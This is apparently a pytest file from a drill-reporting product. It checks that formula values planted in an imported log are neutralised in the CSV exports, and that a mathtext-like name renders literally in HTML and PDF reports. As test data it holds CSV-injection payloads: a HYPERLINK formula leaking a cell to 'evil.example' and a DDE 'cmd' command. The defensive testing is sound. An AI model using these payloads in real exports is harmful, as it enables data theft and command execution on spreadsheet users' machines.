"""What an imported log puts into reports is only ever text (issue 18): a formula planted in a name, an
organisation or an answer is neutralised in every CSV the product writes (the report's tables in the API and the
console, the drill's event log, the roster export), and a name that looks like matplotlib mathtext
(``$\\frac{a}{b$``) is drawn as it is written, so the drill's HTML and PDF report and the year's follow-up answer."""

from __future__ import annotations

import csv
import io

import pytest
from fastapi.testclient import TestClient

from alueturva.auth.models import Role
from alueturva.csvfile import FORMULA_STARTS
from alueturva.db import Database
from tests.conftest import auth
from tests.support.reports import ready_pdf
from tests.support.web import sign_in

MATHTEXT = "$\\frac{a}{b$"
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Avaa")'
COMMAND = "=cmd|' /C calc'!A0"
ROWS = [
    ["time", "name", "number", "organisation", "channel", "event", "answer", "phase"],
    ["2025-11-05 09:00", MATHTEXT, "+46701740605", MATHTEXT, "sms", "sent", "", ""],
    ["2025-11-05 09:01", MATHTEXT, "+46701740605", MATHTEXT, "sms", "delivered", "", ""],
    ["2025-11-05 09:02", MATHTEXT, "+46701740605", MATHTEXT, "sms", "answered", COMMAND, ""],
    ["2025-11-05 09:00", HYPERLINK, "+46701740606", "@SUM(1+1)", "sms", "sent", "", ""],
    ["2025-11-05 09:03", HYPERLINK, "+46701740606", "@SUM(1+1)", "sms", "answered", "+1+1", ""],
]


def _log() -> bytes:
    out = io.StringIO()
    csv.writer(out).writerows(ROWS)
    return out.getvalue().encode()


@pytest.fixture
def drill_id(client: TestClient, keys: dict[Role, str]) -> int:
    files = {"file": ("loki.csv", _log())}
    answer = client.post(
        "/api/v1/drills/import", files=files, data={"name": "Injektio"}, headers=auth(keys[Role.operator])
    )
    assert answer.status_code == 201, answer.text
    return int(answer.json()["drill_id"])


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=";") for cell in row]


def _assert_neutral(text: str) -> None:
    dangerous = [cell for cell in _cells(text) if cell.startswith(FORMULA_STARTS)]
    assert dangerous == [], dangerous


def test_every_csv_neutralises_formulas(
    client: TestClient, keys: dict[Role, str], drill_id: int, database: Database, accounts: dict[Role, int]
) -> None:
    operator = auth(keys[Role.operator])
    csvs = {
        f"report {table}": client.get(
            f"/api/v1/drills/{drill_id}/report", params={"format": "csv", "table": table}, headers=operator
        )
        for table in ("people", "organisations")
    }
    csvs["event log"] = client.get(f"/api/v1/drills/{drill_id}/events.csv", headers=operator)
    sign_in(client, Role.viewer)
    for table in ("people", "organisations"):
        csvs[f"console {table}"] = client.get(f"/drills/{drill_id}/report.csv", params={"table": table})
    for name, answer in csvs.items():
        assert answer.status_code == 200, (name, answer.text[:300])
        _assert_neutral(answer.text)
    assert "'@SUM(1+1)" in _cells(csvs["report organisations"].text)
    event_log = _cells(csvs["event log"].text)
    assert "'" + HYPERLINK in event_log and "'" + COMMAND in event_log and "'+1+1" in event_log


def test_a_name_like_mathtext_is_drawn_as_written(client: TestClient, keys: dict[Role, str], drill_id: int) -> None:
    viewer = auth(keys[Role.viewer])
    html = client.get(f"/api/v1/drills/{drill_id}/report", params={"format": "html"}, headers=viewer)
    assert html.status_code == 200, html.text[:300]
    assert "$\\frac{a}{b$" in html.text  # in the tables and, as text, in the charts' SVG
    followup = client.get("/api/v1/followup", params={"year": 2025, "format": "html"}, headers=viewer)
    assert followup.status_code == 200, followup.text[:300]
    pdf = ready_pdf(client, f"/api/v1/drills/{drill_id}/report", params={"format": "pdf"}, headers=viewer)
    assert pdf.status_code == 200 and pdf.content.startswith(b"%PDF")
